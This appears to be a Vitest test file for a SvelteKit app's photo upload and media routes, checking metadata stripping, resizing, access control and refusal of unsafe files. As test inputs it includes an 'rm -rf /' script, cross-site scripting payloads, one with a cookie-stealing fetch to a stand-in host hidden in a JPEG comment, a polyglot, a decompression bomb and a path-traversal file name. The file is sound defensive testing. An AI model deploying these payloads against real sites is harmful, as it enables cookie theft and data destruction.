import { isHttpError } from '@sveltejs/kit';
import { and, count, eq } from 'drizzle-orm';
import { createHash } from 'node:crypto';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import type { SessionUser } from '$lib/server/auth/lucia';
import { media, mediaVariants, users } from '$lib/server/db/schema';
import { ImageRefused, MAX_UPLOAD_BYTES, storeImage } from '$lib/server/media';
import type { Role } from '$lib/roles';
import { GET as serveMedia } from '../../src/routes/media/[id]/[file]/+server';
import { POST as uploadMedia } from '../../src/routes/staff/newsroom/media/+server';
import { useTestDatabase } from '../setup/test-db';

// Refusals follow OWASP's "Unrestricted File Upload" guidance and its File Upload Cheat Sheet:
// type from the bytes, size limits, no polyglots, no metadata in what is served.

process.env.MAIL_WORKER = 'off';
const db = useTestDatabase();

const GPS = {
	GPSLatitudeRef: 'N',
	GPSLatitude: '27/1 28/1 1234/100',
	GPSLongitudeRef: 'W',
	GPSLongitude: '80/1 17/1 4321/100'
};

function jpeg(width: number, height: number) {
	return sharp({
		create: { width, height, channels: 3, background: { r: 30, g: 110, b: 140 } }
	}).jpeg();
}

/** The tag numbers in the GPS IFD of an EXIF block as sharp returns it ("Exif\0\0" + TIFF). */
function gpsTags(exif: Buffer | undefined): number[] {
	if (!exif) return [];
	const tiff = exif.subarray(exif.toString('latin1', 0, 6) === 'Exif\0\0' ? 6 : 0);
	const le = tiff.toString('latin1', 0, 2) === 'II';
	const u16 = (at: number) => (le ? tiff.readUInt16LE(at) : tiff.readUInt16BE(at));
	const u32 = (at: number) => (le ? tiff.readUInt32LE(at) : tiff.readUInt32BE(at));
	const entries = (ifd: number) =>
		Array.from({ length: u16(ifd) }, (_, k) => ({
			tag: u16(ifd + 2 + 12 * k),
			value: u32(ifd + 2 + 12 * k + 8)
		}));
	const pointer = entries(u32(4)).find((e) => e.tag === 0x8825);
	return pointer ? entries(pointer.value).map((e) => e.tag) : [];
}

async function rows() {
	const [{ n: photos }] = await db().select({ n: count() }).from(media);
	const [{ n: variants }] = await db().select({ n: count() }).from(mediaVariants);
	return { photos, variants };
}

async function refusal(bytes: Buffer, originalName = 'photo.jpg'): Promise<string> {
	const before = await rows();
	const error = await storeImage({ bytes, originalName, alt: 'A turtle', uploadedBy: null }).then(
		() => null,
		(e: unknown) => e
	);
	expect(error).toBeInstanceOf(ImageRefused);
	expect(await rows()).toEqual(before);
	return (error as ImageRefused).message;
}

async function person(roles: Role[]): Promise<SessionUser> {
	const id = crypto.randomUUID();
	const email = `${id.slice(0, 8)}@example.test`;
	await db().insert(users).values({ id, email, name: 'Media Tester' });
	return { id, email, name: 'Media Tester', roles };
}

function serve(id: string, file: string, headers: Record<string, string> = {}) {
	const url = new URL(`http://localhost/media/${id}/${file}`);
	return serveMedia({
		params: { id, file },
		url,
		request: new Request(url, { headers }),
		locals: { user: null, session: null, requestId: 'test' }
	} as never);
}

async function status(pending: Response | PromiseLike<Response>): Promise<number> {
	try {
		return (await pending).status;
	} catch (error) {
		if (isHttpError(error)) return error.status;
		throw error;
	}
}

function upload(user: SessionUser | null, form: FormData, headers: Record<string, string> = {}) {
	const url = new URL('http://localhost/staff/newsroom/media');
	return uploadMedia({
		request: new Request(url, { method: 'POST', body: form, headers }),
		url,
		locals: { user, session: null, requestId: 'test' },
		params: {},
		cookies: { get: () => undefined, set: () => {}, delete: () => {} },
		getClientAddress: () => '127.0.0.1'
	} as never);
}

function uploadForm(bytes: Buffer | null, alt?: string): FormData {
	const form = new FormData();
	if (bytes) form.append('file', new File([new Uint8Array(bytes)], 'IMG_2041.JPG'));
	if (alt !== undefined) form.append('alt', alt);
	return form;
}

describe('storing photos', () => {
	it('strips GPS EXIF, ICC and XMP from every stored variant', async () => {
		const input = await jpeg(2000, 1500)
			.withExif({ IFD0: { Make: 'TidewardTestCam', Model: 'Field Unit' }, IFD3: GPS })
			.withIccProfile('p3')
			.withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"></x:xmpmeta>')
			.toBuffer();
		const inputMeta = await sharp(input).metadata();
		// The fixture really carries a GPS IFD with latitude and longitude, plus ICC and XMP.
		expect(gpsTags(inputMeta.exif)).toEqual(expect.arrayContaining([1, 2, 3, 4]));
		expect(inputMeta.icc).toBeDefined();
		expect(inputMeta.xmp).toBeDefined();

		const stored = await storeImage({ bytes: input, alt: 'Turtle in pool', uploadedBy: null });
		expect(stored).toMatchObject({ width: 2000, height: 1500 });
		const variants = await db()
			.select()
			.from(mediaVariants)
			.where(eq(mediaVariants.mediaId, stored.id));
		expect(variants).toHaveLength(6);
		for (const v of variants) {
			const meta = await sharp(v.bytes).metadata();
			expect(meta.format).toBe(v.format);
			expect(meta.exif).toBeUndefined();
			expect(meta.icc).toBeUndefined();
			expect(meta.xmp).toBeUndefined();
			expect(meta.iptc).toBeUndefined();
			expect(v.bytes.includes('TidewardTestCam')).toBe(false);
			expect(v.etag).toBe(`"${createHash('sha256').update(v.bytes).digest('hex')}"`);
		}
	});

	it('makes 480, 960 and 1600 px variants of a 6000 × 4000 photo with its aspect ratio', async () => {
		const stored = await storeImage({
			bytes: await jpeg(6000, 4000).toBuffer(),
			originalName: '../../etc/DSC_0001.JPG',
			alt: 'Wide beach',
			uploadedBy: null
		});
		const [row] = await db().select().from(media).where(eq(media.id, stored.id));
		expect(row).toMatchObject({ width: 6000, height: 4000, originalName: 'DSC_0001.JPG' });
		const variants = await db()
			.select({ w: mediaVariants.width, h: mediaVariants.height, f: mediaVariants.format })
			.from(mediaVariants)
			.where(eq(mediaVariants.mediaId, stored.id));
		const sizes = variants.map((v) => `${v.f} ${v.w}x${v.h}`).sort();
		expect(sizes).toEqual([
			'jpeg 1600x1067',
			'jpeg 480x320',
			'jpeg 960x640',
			'webp 1600x1067',
			'webp 480x320',
			'webp 960x640'
		]);
	});

	it('does not upscale a 300 px wide photo', async () => {
		const stored = await storeImage({
			bytes: await jpeg(300, 200).toBuffer(),
			alt: 'Small',
			uploadedBy: null
		});
		const variants = await db()
			.select({ w: mediaVariants.width, h: mediaVariants.height })
			.from(mediaVariants)
			.where(eq(mediaVariants.mediaId, stored.id));
		expect(variants).toEqual([
			{ w: 300, h: 200 },
			{ w: 300, h: 200 }
		]);
	});

	it('applies EXIF orientation 6 (portrait from a landscape sensor)', async () => {
		const input = await jpeg(40, 20).withMetadata({ orientation: 6 }).toBuffer();
		expect((await sharp(input).metadata()).orientation).toBe(6);
		const stored = await storeImage({ bytes: input, alt: 'Upright', uploadedBy: null });
		expect(stored).toMatchObject({ width: 20, height: 40 });
		const variants = await db()
			.select({ bytes: mediaVariants.bytes })
			.from(mediaVariants)
			.where(eq(mediaVariants.mediaId, stored.id));
		for (const v of variants) {
			const meta = await sharp(v.bytes).metadata();
			expect([meta.width, meta.height, meta.orientation]).toEqual([20, 40, undefined]);
		}
	});

	it('flattens transparency onto white in the JPEG variant', async () => {
		const input = await sharp({
			create: { width: 500, height: 100, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } }
		})
			.png()
			.toBuffer();
		const stored = await storeImage({ bytes: input, alt: 'Clear', uploadedBy: null });
		const [variant] = await db()
			.select({ bytes: mediaVariants.bytes })
			.from(mediaVariants)
			.where(and(eq(mediaVariants.mediaId, stored.id), eq(mediaVariants.format, 'jpeg')));
		expect((await sharp(variant.bytes).metadata()).channels).toBe(3);
		const { data } = await sharp(variant.bytes).raw().toBuffer({ resolveWithObject: true });
		expect([...data.subarray(0, 3)].every((c) => c > 250)).toBe(true);
	});

	it('writes nothing when the surrounding transaction rolls back', async () => {
		const before = await rows();
		const bytes = await jpeg(500, 300).toBuffer();
		await expect(
			db().transaction(async (tx) => {
				await storeImage({ bytes, alt: 'Rolled back', uploadedBy: null }, tx);
				throw new Error('roll back');
			})
		).rejects.toThrow('roll back');
		expect(await rows()).toEqual(before);
	});
});

describe('refusing files that are not plain photos', () => {
	it('refuses zero bytes', async () => {
		expect(await refusal(Buffer.alloc(0))).toMatch(/empty/);
	});

	it('refuses a file just over the size limit', async () => {
		const big = Buffer.alloc(MAX_UPLOAD_BYTES + 1);
		big.set([0xff, 0xd8, 0xff, 0xe0]);
		expect(await refusal(big)).toMatch(/at most 15 MB/);
	});

	it('refuses a script renamed .jpg, whatever its name says', async () => {
		const message = await refusal(Buffer.from('alert(document.cookie);\n'), 'turtle.jpg');
		expect(message).toMatch(/^Only JPEG, PNG or WebP photos can be uploaded; this file is/);
		expect(await refusal(Buffer.from('#!/bin/sh\nrm -rf /\n'), 'x.jpg')).toMatch(/script/);
	});

	it('refuses SVG, HTML and GIF with a clear message', async () => {
		const svg =
			'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
		expect(await refusal(Buffer.from(svg), 'logo.png')).toMatch(/this file is an SVG drawing\.$/);
		expect(await refusal(Buffer.from('<!DOCTYPE html><html><body>hi</body></html>'))).toMatch(
			/web page \(HTML\)/
		);
		const gif = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
			.gif()
			.toBuffer();
		expect(await refusal(gif)).toMatch(/this file is a GIF\.$/);
	});

	it('refuses a JPEG + HTML polyglot (page after the end marker)', async () => {
		const bytes = Buffer.concat([
			await jpeg(200, 100).toBuffer(),
			Buffer.from('<html><script>alert(1)</script></html>')
		]);
		expect(await refusal(bytes)).toMatch(/web page or script code/);
	});

	it('refuses any data after the JPEG end marker', async () => {
		const bytes = Buffer.concat([await jpeg(200, 100).toBuffer(), Buffer.from([0, 1, 2, 3])]);
		expect(await refusal(bytes)).toMatch(/extra data after the end/);
	});

	it('refuses a JPEG with <script> inside a comment segment', async () => {
		const image = await jpeg(200, 100).toBuffer();
		const comment = Buffer.from('<script>fetch("//x.test/"+document.cookie)</script>');
		const segment = Buffer.from([0xff, 0xfe, 0, 0]);
		segment.writeUInt16BE(comment.length + 2, 2);
		const bytes = Buffer.concat([image.subarray(0, 2), segment, comment, image.subarray(2)]);
		// sharp itself reads it as a fine JPEG: only our check stands in the way.
		expect((await sharp(bytes).metadata()).format).toBe('jpeg');
		expect(await refusal(bytes)).toMatch(/“<script”/);
	});

	it('refuses a truncated JPEG, and one whose scan ends early before a valid end marker', async () => {
		const image = await sharp({
			create: {
				width: 400,
				height: 300,
				channels: 3,
				background: '#000',
				noise: { type: 'gaussian', mean: 128, sigma: 40 }
			}
		})
			.jpeg()
			.toBuffer();
		const cut = image.subarray(0, Math.floor(image.length * 0.6));
		expect(await refusal(cut)).toMatch(/damaged or incomplete/);
		const patched = Buffer.concat([cut, Buffer.from([0xff, 0xd9])]);
		expect(await refusal(patched)).toMatch(/damaged or incomplete \(VipsJpeg: /);
	});

	it('refuses a decompression bomb before decoding it', async () => {
		const png = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#fff' } })
			.png()
			.toBuffer();
		// Claim 10000 × 8000 pixels in the header (IHDR data starts at byte 16) and fix its CRC.
		const bomb = Buffer.from(png);
		bomb.writeUInt32BE(10_000, 16);
		bomb.writeUInt32BE(8_000, 20);
		bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29);
		expect(await refusal(bomb)).toMatch(/10000 × 8000 pixels \(80 megapixels\); the limit is 50/);
	});

	it('refuses an alt text that is blank', async () => {
		const before = await rows();
		const bytes = await jpeg(100, 100).toBuffer();
		await expect(storeImage({ bytes, alt: '  ', uploadedBy: null })).rejects.toThrow(/alt text/);
		expect(await rows()).toEqual(before);
	});
});

describe('GET /media/[id]/[file]', () => {
	it('serves a variant with its type, ETag and a year of caching, and 304 when unchanged', async () => {
		const stored = await storeImage({
			bytes: await jpeg(1000, 500).toBuffer(),
			alt: 'Served',
			uploadedBy: null
		});
		const response = await serve(stored.id, '960.webp');
		expect(response.status).toBe(200);
		expect(response.headers.get('content-type')).toBe('image/webp');
		expect(response.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
		expect(response.headers.get('x-content-type-options')).toBe('nosniff');
		const body = Buffer.from(await response.arrayBuffer());
		const etag = response.headers.get('etag');
		expect(etag).toBe(`"${createHash('sha256').update(body).digest('hex')}"`);
		expect((await sharp(body).metadata()).width).toBe(960);

		const again = await serve(stored.id, '960.webp', { 'if-none-match': etag! });
		expect(again.status).toBe(304);
		expect(await again.text()).toBe('');
		expect((await serve(stored.id, '960.webp', { 'if-none-match': `W/${etag}` })).status).toBe(304);
		expect((await serve(stored.id, '960.webp', { 'if-none-match': '"other"' })).status).toBe(200);

		const jpegResponse = await serve(stored.id, '480.jpeg');
		expect(jpegResponse.headers.get('content-type')).toBe('image/jpeg');
		expect((await sharp(Buffer.from(await jpegResponse.arrayBuffer())).metadata()).width).toBe(480);
	});

	it('serves the nearest stored width at or below the one asked for, else the smallest', async () => {
		const stored = await storeImage({
			bytes: await jpeg(1000, 500).toBuffer(),
			alt: 'Nearest',
			uploadedBy: null
		});
		const widthOf = async (file: string) =>
			(await sharp(Buffer.from(await (await serve(stored.id, file)).arrayBuffer())).metadata())
				.width;
		expect(await widthOf('1600.webp')).toBe(960);
		expect(await widthOf('700.jpeg')).toBe(480);
		expect(await widthOf('100.webp')).toBe(480);
	});

	it('answers 404 for unknown ids and malformed file names', async () => {
		const stored = await storeImage({
			bytes: await jpeg(600, 400).toBuffer(),
			alt: 'Known',
			uploadedBy: null
		});
		expect(await status(serve(stored.id, '480.webp'))).toBe(200);
		expect(await status(serve(crypto.randomUUID(), '480.webp'))).toBe(404);
		for (const file of [
			'480.png',
			'480.jpg',
			'0480.webp',
			'480.WEBP',
			'480.webp.html',
			'-1.webp',
			'x.webp',
			'480',
			'123456.webp'
		]) {
			expect([file, await status(serve(stored.id, file))]).toEqual([file, 404]);
		}
		expect(await status(serve('..', '480.webp'))).toBe(404);
		expect(await status(serve(`${stored.id}.x`, '480.webp'))).toBe(404);
	});
});

describe('POST /staff/newsroom/media', () => {
	it('turns away visitors (401) and supporters (403) before reading the body', async () => {
		const bytes = await jpeg(100, 100).toBuffer();
		await expect(upload(null, uploadForm(bytes, 'x'))).rejects.toSatisfy(
			(e) => isHttpError(e) && e.status === 401
		);
		const supporter = await person(['supporter']);
		await expect(upload(supporter, uploadForm(bytes, 'x'))).rejects.toSatisfy(
			(e) => isHttpError(e) && e.status === 403
		);
		const tracker = await person(['tracker']);
		await expect(upload(tracker, uploadForm(bytes, 'x'))).rejects.toSatisfy(
			(e) => isHttpError(e) && e.status === 403
		);
	});

	it('stores an educator’s photo and answers URLs and Markdown; the served file has no GPS', async () => {
		const educator = await person(['educator']);
		const input = await jpeg(1200, 800).withExif({ IFD3: GPS }).toBuffer();
		expect(gpsTags((await sharp(input).metadata()).exif)).toContain(2);
		const response = await upload(educator, uploadForm(input, ' Loggerhead [Pip] in pool 2 '));
		expect(response.status).toBe(201);
		const reply = await response.json();
		expect(reply).toEqual({
			id: expect.any(String),
			width: 1200,
			height: 800,
			alt: 'Loggerhead [Pip] in pool 2',
			url: `/media/${reply.id}/960.webp`,
			srcset: `/media/${reply.id}/480.webp 480w, /media/${reply.id}/960.webp 960w`,
			markdown: `![Loggerhead \\[Pip\\] in pool 2](/media/${reply.id}/960.webp)`
		});
		const [row] = await db().select().from(media).where(eq(media.id, reply.id));
		expect(row).toMatchObject({ uploadedBy: educator.id, originalName: 'IMG_2041.JPG' });
		const [, id, file] = /^\/media\/([^/]+)\/(.+)$/.exec(reply.url)!;
		const served = Buffer.from(await (await serve(id, file)).arrayBuffer());
		const meta = await sharp(served).metadata();
		expect(meta.exif).toBeUndefined();
		expect(gpsTags(meta.exif)).toEqual([]);
	});

	it('answers 400 with a message for missing alt text or file, and stores nothing', async () => {
		const educator = await person(['educator']);
		const bytes = await jpeg(100, 100).toBuffer();
		const before = await rows();
		for (const [form, field] of [
			[uploadForm(bytes), 'alt'],
			[uploadForm(bytes, '   '), 'alt'],
			[uploadForm(bytes, 'x'.repeat(301)), 'alt'],
			[uploadForm(null, 'A turtle'), 'file']
		] as const) {
			const response = await upload(educator, form);
			expect(response.status).toBe(400);
			const reply = await response.json();
			expect(reply.field).toBe(field);
			expect(reply.error).toMatch(field === 'alt' ? /alt text/ : /Choose a photo/);
		}
		expect(await rows()).toEqual(before);
	});

	it('answers 400 with the refusal for a fake image, and 413 for an oversize body', async () => {
		const admin = await person(['admin']);
		const refused = await upload(admin, uploadForm(Buffer.from('<svg onload=alert(1)>'), 'x'));
		expect(refused.status).toBe(400);
		expect((await refused.json()).error).toMatch(/^Only JPEG, PNG or WebP photos/);

		const declared = await upload(admin, uploadForm(Buffer.from('tiny'), 'x'), {
			'content-length': String(MAX_UPLOAD_BYTES + 65 * 1024)
		});
		expect(declared.status).toBe(413);
		const undeclared = await upload(admin, uploadForm(Buffer.alloc(MAX_UPLOAD_BYTES + 1), 'x'));
		expect(undeclared.status).toBe(413);
		expect((await undeclared.json()).error).toMatch(/at most 15 MB/);
	});
});
